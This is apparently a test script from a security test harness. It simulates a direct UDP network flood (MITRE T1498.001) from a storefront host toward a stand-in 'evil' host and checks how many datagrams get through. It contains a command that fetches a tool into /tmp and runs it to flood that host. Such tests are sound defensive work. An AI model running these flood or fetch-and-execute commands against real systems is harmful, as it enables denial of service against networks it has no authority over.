#!/usr/bin/env bash
# Floods the attacker's machine with datagrams from the storefront: 3 seconds, 20,000 at most. MITRE ATT&CK T1498.001, Direct Network Flood.
. "$(dirname "$0")/lib.sh"

later "in_storefront rm -f /tmp/$mark"
before=$(evil get http://127.0.0.1/sunk)
out=$(through_label "$(fetch_tool "/tmp/$mark"); /tmp/$mark udp evil 9999")
came=$(($(evil get http://127.0.0.1/sunk) - before))
[ "$came" -ge 300 ] || stopped "only $came arrived: $out"
worked "$came of $out datagrams arrived"
